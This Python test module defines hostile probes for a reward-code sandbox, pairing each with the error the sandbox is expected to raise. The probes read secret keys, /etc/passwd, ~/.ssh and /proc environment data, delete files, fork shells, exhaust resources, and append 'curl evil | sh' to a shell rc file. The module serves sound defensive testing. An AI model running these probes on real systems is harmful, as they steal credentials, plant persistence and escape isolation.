"""The hostile reward cases: what each probe does, the specific reason the sandbox must give, and
the harm the same probe does without a sandbox (the control). Used by test_hostile_code.py.

A probe is the body of `grade()` (or a whole module with `lambda_handler`), made from the console
it runs in (`c`: its pid, uid, home, data dir, servers and decoy files; see sandbox_driver.py).
Probes that would damage the test machine outside the sandbox are sized to be harmless there
(a 16 MB file, not 20 GB; signal 0, not SIGKILL) while still breaking the sandbox's limit.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from types import SimpleNamespace
from typing import Any

Control = dict[str, Any]


@dataclass(frozen=True)
class Case:
    probe: Callable[[SimpleNamespace], str]
    contained: str | tuple[str, ...]  # a piece of the sandbox's message: the specific reason
    harm: Callable[[Control], bool]  # what the control must show
    control_timeout: float = 20.0


def returns(control: Control) -> bool:
    return control["outcome"] == "returned"


def returns_over(size: int) -> Callable[[Control], bool]:
    return lambda control: returns(control) and control.get("size", 0) >= size


def signal(number: int) -> Callable[[Control], bool]:
    return lambda control: control["outcome"] == "signal" and control["detail"] == str(number)


def runs_on(control: Control) -> bool:
    return control["outcome"] == "running"


def exits(code: int) -> Callable[[Control], bool]:
    return lambda control: control["outcome"] == "exited" and control["detail"] == str(code)


def read(path: str) -> str:
    return f"return open({path!r}, 'rb').read().decode(errors='replace')"


def probe(text: str) -> Callable[[SimpleNamespace], str]:
    """A probe that needs nothing from the console."""
    return lambda c: text


FILES = {
    "read the console's secret key (data dir)": Case(
        lambda c: read(f"{c.data_dir}/secret_key"), "FileNotFoundError", returns
    ),
    "read a dataset file (data dir)": Case(
        lambda c: read(c.decoys["dataset"]), "FileNotFoundError", returns
    ),
    "list the data dir": Case(
        lambda c: f"return os.listdir({c.data_dir!r})", "FileNotFoundError", returns
    ),
    "delete a dataset file (data dir)": Case(
        lambda c: f"os.remove({c.decoys['dataset']!r})", "FileNotFoundError", returns
    ),
    "write a file into the data dir": Case(
        lambda c: f"open({c.data_dir + '/pwned'!r}, 'w').write('x')", "FileNotFoundError", returns
    ),
    "read the source tree (settings.py)": Case(
        lambda c: read(f"{c.base_dir}/rftconsole/settings.py"), "FileNotFoundError", returns
    ),
    "import the project's own modules": Case(
        probe("import rewards.code"), "No module named 'rewards'", returns
    ),
    "import Django from the console's venv": Case(
        probe("import django"), "No module named 'django'", returns
    ),
    "list the console's venv": Case(
        lambda c: f"return os.listdir({c.venv!r})", "FileNotFoundError", returns
    ),
    "read /etc/passwd": Case(probe(read("/etc/passwd")), "FileNotFoundError", returns),
    "read a shadow-like secret (mode 0600)": Case(
        lambda c: read(c.decoys["shadow"]), "FileNotFoundError", returns
    ),
    "read a home dotfile": Case(lambda c: read(c.decoys["dotfile"]), "FileNotFoundError", returns),
    "write a home dotfile (append to an rc file)": Case(
        lambda c: f"open({c.decoys['dotfile']!r}, 'a').write('curl evil | sh\\n')",
        ("FileNotFoundError", "Read-only file system"),  # /root holds the interpreter's path
        returns,
    ),
    "list ~/.ssh": Case(
        lambda c: f"return os.listdir({c.home + '/.ssh'!r})", "FileNotFoundError", returns
    ),
    "plant a git hook in a checkout the user owns": Case(
        lambda c: f"open({c.decoys['git hook'].replace('.sample', '')!r}, 'w').write('evil')",
        "FileNotFoundError",
        returns,
    ),
}

NETWORK = {
    "connect to a TCP server on 127.0.0.1": Case(
        lambda c: f"return socket.create_connection(('127.0.0.1', {c.tcp}), timeout=2).recv(64)",
        "Connection refused",
        returns,
    ),
    "talk UDP to a server on 127.0.0.1": Case(
        lambda c: (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\n"
            f"s.sendto(b'ping', ('127.0.0.1', {c.udp}))\nreturn s.recv(64)"
        ),
        ("Connection refused", "timed out"),
        returns,
    ),
    "connect to a unix socket server outside the sandbox": Case(
        lambda c: f"s = socket.socket(socket.AF_UNIX)\ns.connect({c.unix!r})\nreturn s.recv(64)",
        "FileNotFoundError",
        returns,
    ),
    "connect to an abstract unix socket": Case(
        lambda c: (
            "s = socket.socket(socket.AF_UNIX)\n"
            f"s.connect('\\0' + {c.abstract!r})\nreturn s.recv(64)"
        ),
        "Connection refused",
        returns,
    ),
    "resolve a host name": Case(
        probe("return socket.getaddrinfo('localhost', 80)"), "gaierror", returns
    ),
}

PROCESSES = {
    "read the console's environment": Case(
        lambda c: (
            f"if os.environ.get('RFT_PROBE_SECRET') != {c.secret!r}:\n"
            "    raise LookupError('the console secret is not in this environment')\n"
            "return os.environ['RFT_PROBE_SECRET']"
        ),
        "LookupError: the console secret is not in this environment",
        returns,
    ),
    "read the console's environment through /proc": Case(
        lambda c: (
            f"text = open('/proc/{c.pid}/environ', 'rb').read()\n"
            f"assert {c.secret!r}.encode() in text\nreturn text"
        ),
        "FileNotFoundError",
        returns,
    ),
    "signal the console process": Case(
        lambda c: f"os.kill({c.pid}, 0)", "ProcessLookupError", returns
    ),
    "kill -1 (every process it may signal; signal 0)": Case(
        probe("os.kill(-1, 0)"), "ProcessLookupError", returns
    ),
    "take the console's uid": Case(
        lambda c: f"os.setuid({c.uid})", ("PermissionError", "Invalid argument"), returns
    ),
    "make a user namespace to regain capabilities": Case(
        probe(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "if libc.unshare(0x10000000) != 0:\n"
            "    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))"
        ),
        ("No space left on device", "Operation not permitted"),
        returns,
    ),
    "fork a process": Case(
        probe("pid = os.fork()\nif pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)"),
        "BlockingIOError",
        returns,
    ),
    "outlive the batch (double fork, setsid)": Case(
        probe(
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        time.sleep(5)\n    os._exit(0)"
        ),
        "BlockingIOError",
        returns,
    ),
    "spawn a shell (posix_spawn)": Case(
        probe("pid = os.posix_spawn('/bin/sh', ['sh', '-c', 'exit 0'], {})\nos.waitpid(pid, 0)"),
        ("BlockingIOError", "FileNotFoundError"),
        returns,
    ),
    "run a command with subprocess": Case(
        probe("import subprocess\nsubprocess.run(['/bin/sh', '-c', 'exit 0'], check=True)"),
        ("BlockingIOError", "FileNotFoundError"),
        returns,
    ),
    "replace itself with a shell (execv)": Case(
        probe("os.execv('/bin/sh', ['sh', '-c', 'exit 0'])"), "FileNotFoundError", exits(0)
    ),
    "start 50 threads": Case(
        probe(
            "import _thread\nfor _ in range(50):\n    _thread.start_new_thread(time.sleep, (0,))"
        ),
        "can't start new thread",
        returns,
    ),
}

RESOURCES = {
    "infinite loop": Case(probe("while True:\n    pass"), "timed out after 3 s", runs_on, 2),
    "ignore SIGTERM, then loop": Case(
        probe("signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass"),
        "timed out after 3 s",
        runs_on,
        2,
    ),
    "allocate 1 GiB at once": Case(probe("x = bytearray(1 << 30)"), "MemoryError", returns),
    "grow to 1 GiB, 1 MB at a time": Case(
        probe("x = []\nfor _ in range(1024):\n    x.append(bytearray(1 << 20))"),
        "MemoryError",
        returns,
    ),
    "write a 16 MB file": Case(
        lambda c: (
            f"path = '/tmp/rft-hostile-big-{c.marker}'\ntry:\n"
            "    open(path, 'wb').write(b'x' * (16 << 20))\nfinally:\n"
            "    if os.path.exists(path):\n        os.remove(path)"
        ),
        "File too large",
        returns,
    ),
    "fill /tmp with 7 MB files": Case(
        lambda c: (
            f"import shutil\nroot = '/tmp/rft-hostile-fill-{c.marker}'\nos.makedirs(root)\n"
            "try:\n    for n in range(20):\n"
            "        open(f'{root}/{n}', 'wb').write(b'x' * (7 << 20))\nfinally:\n"
            "    shutil.rmtree(root)"
        ),
        "No space left on device",
        returns,
    ),
    "C-level stack overflow": Case(
        probe("sys.setrecursionlimit(10**7)\nx = []\nfor _ in range(10**6):\n    x = [x]\nrepr(x)"),
        "crashed (segmentation fault)",
        signal(11),
    ),
    "crash the interpreter (ctypes, address 0)": Case(
        probe("import ctypes\nctypes.string_at(0)"), "crashed (segmentation fault)", signal(11)
    ),
    "close every file descriptor": Case(
        probe("os.closerange(0, 1024)"), "the reward process exited", exits(1)
    ),
    "exit the process": Case(probe("os._exit(3)"), "exited with code 3", exits(3)),
}

FLOOD = (
    "import json\nfd = json.loads(sys.argv[-1])['reply_fd']\n"
    "for _ in range(64):\n    os.write(fd, b'x' * (1 << 20))"
)
FORGE = (
    "import json\nfd = json.loads(sys.argv[-1])['reply_fd']\n"
    "os.write(fd, json.dumps({'scores': [1.0] * 1_000_000, 'errors': {}, 'components': {},"
    " 'stdout': '', 'seq': 0}).encode() + b'\\n')"
)

REPLIES = {
    "100,000 metrics for one row": Case(
        probe(
            "def lambda_handler(event, context):\n"
            "    metrics = [{'name': f'm{n}', 'value': 1.0} for n in range(100_000)]\n"
            "    return [{'id': e['id'], 'aggregate_reward_score': 1.0, 'metrics_list': metrics}"
            " for e in event]\n"
        ),
        "100,000 metrics for one row; at most 32",
        returns_over(1_000_000),
    ),
    "a metric name of 10 MB": Case(
        probe(
            "def lambda_handler(event, context):\n"
            "    metrics = [{'name': 'n' * 10_000_000, 'value': 1.0}]\n"
            "    return [{'id': e['id'], 'aggregate_reward_score': 1.0, 'metrics_list': metrics}"
            " for e in event]\n"
        ),
        "a metric's name is 10,000,000 characters; at most 64",
        returns_over(10_000_000),
    ),
    "an error message of 50 MB": Case(
        probe("raise ValueError('x' * 50_000_000)"),
        "xxxx […]",
        lambda control: control["outcome"] == "raised" and control["size"] >= 50_000_000,
    ),
    "100 MB of prints": Case(
        probe("print('x' * 100_000_000)"), "[output truncated at 64 KB]", returns
    ),
    "1,000 results for one row": Case(
        probe(
            "def lambda_handler(event, context):\n"
            "    return [{'id': str(n), 'aggregate_reward_score': 1.0} for n in range(1000)]\n"
        ),
        "returned 1,000 results for 1 items",
        returns_over(30_000),
    ),
    "flood the protocol pipe (64 MB, no newline)": Case(
        lambda c: FLOOD,
        "sent a reply larger than 16 MB",
        lambda control: control.get("pipe_bytes", 0) >= 64 << 20,
    ),
    "forge a reply with a million scores on the protocol pipe": Case(
        lambda c: FORGE,
        "malformed reply",
        lambda control: control.get("pipe_bytes", 0) >= 1_000_000,
    ),
}

CASES: dict[str, Case] = {**FILES, **NETWORK, **PROCESSES, **RESOURCES, **REPLIES}
